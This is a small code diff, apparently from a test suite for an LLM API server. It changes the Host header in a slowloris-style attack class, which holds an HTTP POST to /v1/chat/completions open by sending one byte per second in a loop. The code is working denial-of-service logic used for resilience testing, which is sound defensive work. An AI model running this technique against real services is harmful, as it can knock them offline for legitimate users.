@@ -21,7 +21,7 @@ class Slowloris(Attack):
         while True:
             try:
                 async with target.connected(ATTACKER) as (reader, writer):
-                    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\na")
+                    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: 127.0.0.1\r\na")
                     while not reader.at_eof():
                         writer.write(b"b")
                         await asyncio.sleep(1.0)
